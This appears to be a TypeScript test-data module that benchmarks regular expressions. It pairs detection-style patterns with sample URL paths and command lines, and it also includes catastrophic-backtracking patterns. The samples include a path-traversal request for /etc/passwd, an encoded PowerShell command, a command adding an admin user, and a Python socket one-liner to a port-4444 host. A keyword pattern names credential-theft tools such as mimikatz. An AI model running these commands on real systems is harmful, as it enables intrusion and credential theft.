/** The measured regular expressions and texts. Pure. */

export interface RegexCase {
  readonly name: string;
  readonly source: string;
  readonly flags: string;
  readonly texts: readonly string[];
  /** Whether the runtime's own engine takes too long. */
  readonly hostile: boolean;
}

const PATHS = [
  '/v1/compute/vms/7c1e7f0a-4c5e-4d0b-9a52-3a6f3c2f6b1d/restart',
  '/v1/nks/clusters/0f2a6f3c-95b3-4df7-8f0a-1c9a7a2b6e55/kubeconfig',
  '/v1/api_keys',
  '/v1/networking/vpcs/5b0b8a6e-1111-4222-8333-944455556666/firewall_rules/any',
  '/static/%2e%2e/%2e%2e/etc/passwd',
];
const COMMANDS = [
  'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'C:\\Windows\\System32\\cmd.exe /c "net user admin P4ssw0rd! /add && whoami /priv"',
  '/usr/bin/python3 -c "import socket,subprocess,os;s=socket.socket();s.connect((\'198.51.100.7\',4444))"',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.0.0 Safari/537.36',
];

const good = (name: string, source: string, texts: readonly string[], flags = ''): RegexCase => {
  return { name, source, flags, texts, hostile: false };
};

const hostile = (source: string, length: number, most: number): RegexCase => {
  const name = `${source} on ${length.toLocaleString('en-US')} characters`;
  return { name, source, flags: '', texts: [`${'a'.repeat(length)}!`], hostile: length > most };
};

/** A hostile pattern on a text that the native engine can still finish, and on longer ones. */
export const REGEX_CASES: readonly RegexCase[] = [
  good('a path', '^/v1/[a-z_]+/[a-z_]+/[0-9a-f-]{36}/kubeconfig$', PATHS),
  good('a part of it', '/(restart|kubeconfig|export)$', PATHS),
  good('a word', 'etc/passwd', PATHS),
  good('escaped dots', '(\\.\\.|%2e%2e)/+(etc|proc)', PATHS),
  good('without case', '(?:-e|-en|-enc|-encodedcommand)\\s+[a-z0-9+/=]{20,}', COMMANDS, 'i'),
  good('digits', '\\b\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\b', COMMANDS),
  good('any run between', 'net\\s+user\\s+.*\\s+/add', COMMANDS),
  good(
    'many words',
    'whoami|mimikatz|sekurlsa|lsadump|procdump|psexec|wmic|bitsadmin|certutil|regsvr32|rundll32',
    COMMANDS,
    'i',
  ),
  hostile('^(a+)+$', 22, 30),
  hostile('^(a+)+$', 10_000, 30),
  hostile('(a|aa)*b', 28, 30),
  hostile('(a|aa)*b', 10_000, 30),
  hostile('(.*)(.*)(.*)b', 100, 300),
  hostile('(.*)(.*)(.*)b', 10_000, 300),
  hostile('a{0,100}a{0,100}b', 1_000, 1_000),
  hostile('[ab]*a[ab]{10}c', 300, 300),
  hostile('[ab]*a[ab]{10}c', 10_000, 300),
];
